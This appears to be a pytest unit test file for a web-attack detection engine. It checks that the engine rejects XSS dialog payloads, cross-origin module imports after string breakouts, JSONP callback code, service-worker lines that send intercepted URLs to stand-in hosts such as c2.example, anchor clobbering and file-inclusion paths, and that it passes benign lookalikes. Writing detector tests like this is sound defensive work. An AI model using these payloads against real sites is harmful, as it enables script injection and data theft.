"""Unit: the shapes of the fresh38 first contact.

Files a request writes for a later file inclusion to run: PHP's upload temp files, a PHP script in a world-writable
directory, nginx's client-body buffers and a procfs path re-entered through another process's ``cwd``/``root``
(``inclusion_targets``); script statements that reach a dialog through the window object with a probe's argument,
run a dialog after a closed block, import a module from another origin after a string break-out, put code in a
JSONP callback, forward a service worker's intercepted URLs, or clobber a name with an anchor to a script file
(``script_statements.script_statement``); markup that is a script tag once a dotless ``ı`` is read as ``i``
(``script_statements.best_fit_markup``). Values are our own; none comes from a corpus."""

from __future__ import annotations

import time

import pytest

from bastion.detection import Context, Engine

BODY = Context("body", "comment")
CONTEXTS = [BODY, Context("header", "x-note"), Context("cookie", "pref"), Context("query", "q")]


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


REJECTED = {
    "php upload temp file": ["/tmp/phpQ7r2Kx", "/var/tmp/phpa1B2c3", "C:\\Windows\\Temp\\php4F2A.tmp"],
    "php script in a world-writable directory": ["/tmp/x.php", "/dev/shm/.s.phtml", "/var/tmp/up/shell.php5"],
    "nginx body buffer": ["/var/lib/nginx/body/0000000042", "/var/cache/nginx/client_temp/3/00/0000000003"],
    "procfs re-entered": ["/proc/812/root/proc/812/fd/12", "/proc/self/cwd/proc/99/root/etc/hosts.bak"],
    "dialog through the window": [
        "self.prompt(document.domain)",
        "parent.confirm(7)",
        "document.body.ownerDocument.defaultView.alert(document.cookie)",
        "Error.prepareStackTrace=(e,s)=>s[0].getThis().confirm(location)",
        "top.eval('prompt(9)')",
    ],
    "dialog after a closed block": [
        "function track(a,b){return 0}\nconfirm(42)",
        "if(x){y()};prompt(document.domain);",
    ],
    "module import after a breakout": [
        "');import * as m from 'https://cdn.evil.example/m.mjs';//",
        "\"]; import run from \"//203.0.113.5/x.js\"//",
    ],
    "code in a jsonp callback": [
        "/api/feed?cb=(function(){document.title=1})()//",
        "https://shop.example/jsonp?callback=x=function(){top.location='//e.example'}//",
        "/search.json?jsonp=window.onload=function(){}",
    ],
    "service worker forwarding urls": [
        "onfetch=e=>{fetch('https://c2.example/u?'+e.request.url)}",
        "self.addEventListener(\"fetch\", ev => { navigator.sendBeacon(\"//log.example/\" + ev.request.url) })",
    ],
    "anchor clobbering a script url": [
        "<a id=cdn href=https://203.0.113.7/lib.js>",
        "<area name=\"loader\" href='//evil.example/boot.js?v=2'>",
        "<a href=/uploads/x.js id=settings></a>",
    ],
    "dotless i script tag": ["<scrıpt src=//e.example/a></scrıpt>", "<ımg src=x onerror=prompt(1)>"],
}

PASSED = {
    "temp paths in config and prose": [
        "/tmp/phpunit",
        "/tmp/php-fpm.sock",
        "/tmp/build/output.log",
        "The upload lands in /tmp/phpXXXXXX until the request ends.",
        "/var/www/html/index.php",
        "/home/alice/tmp/notes.php",
        "/var/lib/nginx",
        "proxy_temp_path /var/cache/nginx/proxy_temp;",
        "/proc/cpuinfo is where the kernel lists the cores",
    ],
    "dialogs in application code": [
        "if (!window.confirm('Delete this playlist?')) return;",
        # "window.alert(\"Saved\")" alone is refused since the fresh37 merge, as "alert(\"Saved\")" alone always was:
        # a value that is nothing but a dialog call is the payload (xss._JS_CALL), whatever its message
        "swal.alert(1, 'done')",
        "function save(){ persist(); }\nalert('Your changes were saved');",
        "} else { showDialog(1) }",
    ],
    "imports in code": [
        "import { h } from 'https://esm.sh/preact'",
        "Use `import x from \"https://deno.land/std/mod.ts\"` in Deno.",
    ],
    "jsonp callbacks that are names": [
        "/api/feed?callback=jQuery3600_1699999&_=1700000000",
        "https://api.example/v1/items?cb=angular.callbacks._0",
        "/stats?jsonp=handle_stats",
    ],
    "service worker code that caches": [
        "self.addEventListener('fetch', e => e.respondWith(caches.match(e.request).then(r => r || fetch(e.request))))",
    ],
    "anchors and scripts in markup": [
        "<a id=\"top\" href=\"#intro\">Back to top</a>",
        "<a href=\"https://cdn.example/app.js\">download app.js</a>",
        "<a name=\"js\" href=\"/docs/js-guide\">the JS guide</a>",
    ],
    "turkish text": ["Kullanıcı adı <b>ışık</b> yazınız", "<ılık> is not a tag"],
}


@pytest.mark.parametrize(("shape", "value"), [(k, v) for k, vs in REJECTED.items() for v in vs])
def test_fresh38_shape_is_rejected(engine: Engine, shape: str, value: str) -> None:
    for ctx in CONTEXTS:
        assert engine.inspect(value, ctx) is not None, (shape, value, ctx)


@pytest.mark.parametrize(("shape", "value"), [(k, v) for k, vs in PASSED.items() for v in vs])
def test_fresh38_lookalike_passes(engine: Engine, shape: str, value: str) -> None:
    assert engine.inspect(value, BODY) is None, (shape, value)


@pytest.mark.parametrize("unit", [
    "<a id=x href=y.js <a name=z href=",
    "addEventListener('fetch' fetch('https://a/'+ ",
    "');import {a from //",
    "?callback=a.b.c.d.e.f",
    "/proc/1/cwd/proc/",
    "} ;\n;\n alert( ",
    "window.eval('aaaaaaaaaa",
])
def test_fresh38_new_searches_are_linear(engine: Engine, unit: str) -> None:
    value = (unit * (128 * 1024 // len(unit) + 1))[: 128 * 1024]
    start = time.process_time()
    engine.inspect(value, BODY)
    assert time.process_time() - start < 1.0, unit
